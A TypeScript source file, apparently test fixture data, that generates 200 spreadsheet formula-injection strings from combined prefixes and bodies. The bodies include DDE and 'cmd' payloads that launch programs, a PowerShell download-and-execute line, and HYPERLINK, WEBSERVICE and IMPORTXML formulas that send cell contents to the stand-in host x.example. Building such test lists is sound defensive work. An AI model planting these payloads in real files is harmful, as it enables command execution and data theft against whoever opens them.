// Two hundred texts that a spreadsheet might run, if a file let it.
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  "''+",
  '\t=',
  '\r-',
  '=\t',
  '＝=',
  '@@',
  '-+',
  '=-',
  '+@',
]
const BODIES = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://x.example/?"&A1,"こちら")',
  'WEBSERVICE("http://x.example/")',
  'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  "SUM(1+9)*cmd|' /C powershell IEX(wget x)'!A0",
  '2+5"; =1+1',
  '","=1+1","',
  '重要な連絡\n=1+1',
]

export const FORMULA_PAYLOADS: readonly string[] = STARTS.flatMap(start => BODIES.map(body => start + body))
